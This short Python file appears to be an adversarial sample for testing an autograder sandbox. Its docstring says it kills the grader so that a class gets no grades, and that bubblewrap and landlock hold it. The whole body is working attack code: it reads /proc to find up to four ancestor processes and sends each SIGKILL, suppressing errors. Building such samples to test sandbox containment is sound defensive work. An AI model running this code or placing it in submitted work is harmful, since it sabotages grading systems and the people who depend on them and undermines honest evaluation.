"""Sends SIGKILL to its parents and grandparents.

Harm: the grader dies or stands still, the class has no grades
Base: 06_shared_counter/wrong/no_lock.py
Honest: total_is_kept, counters_are_independent
Held: bubblewrap, landlock
"""

import contextlib
import os
import signal

def ancestors():
    pid, found = os.getpid(), []
    for _ in range(4):
        try:
            with open(f"/proc/{pid}/stat") as file:
                pid = int(file.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        if pid < 1:
            break
        found.append(pid)
    return found


for each in ancestors():
    with contextlib.suppress(OSError):
        os.kill(each, signal.SIGKILL)
